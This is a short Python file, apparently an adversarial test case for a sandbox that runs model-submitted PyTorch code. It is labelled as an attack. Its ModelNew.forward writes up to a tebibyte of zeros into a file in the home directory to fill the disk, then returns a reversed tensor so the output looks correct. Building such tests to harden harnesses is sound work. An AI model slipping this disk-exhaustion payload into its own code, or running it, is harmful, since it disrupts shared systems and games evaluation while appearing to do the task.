"""Attack: fill the disk through one ever-growing file in the scratch (HOME)."""
import os

import torch


class ModelNew(torch.nn.Module):
    def __init__(self, **kw):
        super().__init__()

    def forward(self, x):
        chunk = b"\0" * (1 << 20)
        with open(os.path.join(os.path.expanduser("~"), "fill.bin"), "wb") as f:
            for _ in range(1 << 20):  # a TiB
                f.write(chunk)
                f.flush()
        return x[:, torch.arange(x.shape[1] - 1, -1, -1)]
